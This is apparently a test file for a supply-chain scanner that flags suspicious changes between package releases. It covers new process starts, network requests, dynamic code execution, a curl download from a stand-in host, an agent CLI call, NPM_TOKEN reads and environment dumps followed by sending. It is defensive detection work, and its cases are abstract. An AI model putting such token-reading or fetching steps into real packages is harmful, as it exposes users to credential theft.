import { describeSignal } from '../../src/testing/describe-signal.ts';
import { fact, file, reads, request, rests, runs, starts } from '../../src/testing/facts.ts';
import { read, shallow, sourced } from '../../src/testing/sources.ts';
import { newSink } from './new-sink.ts';

const before = read('1.0.0', runs('index.js', request('')));
const library = Array.from({ length: 10 }, (_, index) => reads(`SDK_OPTION_${index}`));
const list = starts('git log');

describeSignal(newSink, {
  context: { asOf: '2026-06-29', baseline: null },
  fires: {
    'it comes to start processes': {
      on: sourced(before, read('1.0.1', runs('index.js', request(''), list))),
      citing: ['/index.js:2:1'],
      weight: 10,
    },
    'it comes to ask the network': {
      on: sourced(read('1.0.0', runs('index.js', list)), read('1.0.1', runs('index.js', list, request('')))),
      citing: '/index.js:2:1',
      weight: 10,
    },
    'it comes to execute text': {
      on: sourced(before, read('1.0.1', runs('index.js', request(''), fact('execution', '', 'Function')))),
      citing: '/index.js:2:1',
      weight: 10,
    },
    'a bundle brings it': {
      on: sourced(before, read('1.0.1', file('index.js', { bytes: 300_000 }, ...library, request(''), list))),
      citing: '/index.js:12:1',
      weight: 5,
    },
    'a command that fetches something': {
      on: sourced(
        read('1.0.0', runs('index.js', list)),
        read('1.0.1', runs('index.js', list, starts('curl -sO https://driftwood.invalid/x', 'download'))),
      ),
      citing: '/index.js:2:1',
      weight: 30,
    },
    "an agent's own command": {
      on: sourced(
        read('1.0.0', runs('index.js', list)),
        read('1.0.1', runs('index.js', list, starts('claude -p x', 'agent-cli'))),
      ),
      citing: '/index.js:2:1',
      weight: 20,
    },
    'a file that sent nothing sends where it reads a token that nothing explains': {
      on: sourced(
        read('1.0.0', runs('index.js', request('')), runs('tides.js')),
        read('1.0.1', runs('index.js', request('')), runs('tides.js', reads('NPM_TOKEN'), request(''))),
      ),
      citing: '/tides.js:2:1',
      weight: 30,
    },
    'a request to a constant host before it hides nothing': {
      on: sourced(
        read('1.0.0', runs('index.js', request('')), runs('tides.js')),
        read(
          '1.0.1',
          runs('index.js', request('')),
          runs('tides.js', reads('NPM_TOKEN'), request('https://api.quay.invalid'), request('')),
        ),
      ),
      citing: '/tides.js:3:1',
      weight: 30,
    },
    'a bundle that has it too hides nothing': {
      on: sourced(
        before,
        read(
          '1.0.1',
          file('bundle.js', { bytes: 300_000 }, ...library, request(''), list),
          runs('tides.js', request(''), list),
        ),
      ),
      citing: '/tides.js:2:1',
      weight: 10,
    },
    'a file that sent nothing sends where it takes the whole environment': {
      on: sourced(
        read('1.0.0', runs('index.js', request('')), runs('tides.js')),
        read(
          '1.0.1',
          runs('index.js', request('')),
          runs('tides.js', fact('environment-dump', '', 'spread'), request('')),
        ),
      ),
      citing: '/tides.js:2:1',
      weight: 30,
    },
  },
  silent: {
    'it always started processes': sourced(
      read('1.0.0', runs('a.js', list)),
      read('1.0.1', runs('b.js', starts('git status'))),
    ),
    'a new file asks with the key of the package': sourced(
      before,
      read('1.0.1', runs('index.js', request('')), runs('tides.js', reads('HARBOR_API_KEY'), request(''))),
    ),
    'a command fetches what it is told to': sourced(
      read('1.0.0', runs('index.js', list)),
      read('1.0.1', runs('index.js', list, starts('curl *', 'download'))),
    ),
    'a command fetches from the domain of its own': sourced(
      read('1.0.0', runs('index.js', list)),
      read('1.0.1', runs('index.js', list, starts('curl -sO https://get.harbor.test/x', 'download'))),
    ),
    'a bundle asks for the global object': sourced(
      before,
      read('1.0.1', runs('index.js', request(''), fact('execution', 'return this', 'Function'))),
    ),
    'a test starts one': sourced(
      before,
      read('1.0.1', runs('index.js', request('')), rests('test', 'a.test.js', list)),
    ),
    'the first release starts one': sourced(read('1.0.0', runs('a.js', list)), read('1.0.1', runs('a.js', list))),
  },
  unseen: shallow,
});
